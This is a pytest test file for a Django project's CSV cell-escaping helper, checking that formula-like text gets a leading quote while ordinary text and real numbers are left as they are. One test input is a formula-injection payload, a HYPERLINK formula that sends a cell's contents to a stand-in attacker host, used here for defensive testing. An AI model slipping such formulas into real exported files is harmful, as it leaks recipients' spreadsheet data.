"""config/spreadsheets.py: the one place that decides what a CSV cell may start with."""

from decimal import Decimal

import pytest
from django.utils import translation

from config.spreadsheets import csv_row, number_cell, safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', "+1", "-1+1", "@SUM(A1)",
                                  "\t=1", "\r=1", "\n=1", "-5"])
def test_text_a_spreadsheet_could_evaluate_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Northwind", "Inès Martin", "1+1=2", " =1", "", "'quoted"])
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_even_negative():
    assert csv_row([-3, Decimal("-1.50"), -0.25, None, number_cell(-15.5, 1)]) == ["-3", "-1.50", "-0.25", "", "-15.5"]
    with translation.override("fr"):
        assert safe_cell(number_cell(-15.5, 1)) == "-15,5"


def test_only_real_numbers_are_written_as_numbers():
    with pytest.raises(TypeError):
        number_cell("-1+1")
    with pytest.raises(TypeError):
        number_cell(True)
